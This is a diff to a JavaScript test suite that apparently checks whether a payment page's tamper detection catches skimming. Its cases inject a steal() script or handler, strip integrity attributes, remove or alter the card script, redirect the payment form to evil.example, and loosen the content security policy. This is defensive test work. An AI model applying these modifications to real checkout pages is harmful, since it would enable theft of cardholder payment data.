@@ -76,6 +76,8 @@ describe('11.6.1: the form is looked at from outside', () => {
     ['a script inside the page', ({ path, body }) => (isPage(path) ? { body: body.replace('</body>', '<script>steal()</script></body>') } : {})],
     ['a handler on a tag', ({ path, body }) => (isPage(path) ? { body: body.replace('<main', '<main onkeyup="steal()"') } : {})],
     ['an integrity attribute that was taken off', ({ path, body }) => (isPage(path) ? { body: body.replace(/ integrity="[^"]+"/, '') } : {})],
+    ['the card page’s own script left out', ({ path, body }) => (isPage(path) ? { body: body.replace(/<script src="\/assets\/card[^>]*><\/script>/, '') } : {})],
+    ['other bytes in the card page’s own script', ({ path, body }) => (path.includes('/card.') ? { body: `${body};steal()` } : {})],
     ['a form that leads elsewhere', ({ path, body }) => (isPage(path) ? { body: body.replace(/action="\/pay/, 'action="https://evil.example/pay') } : {})],
     ['a frame over the form', ({ path, body }) => (isPage(path) ? { body: body.replace('<main', '<iframe src="https://evil.example"></iframe><main') } : {})],
     ['a policy that lets more in', ({ headers }) => ({ headers: { ...headers, 'content-security-policy': "script-src *" } })],
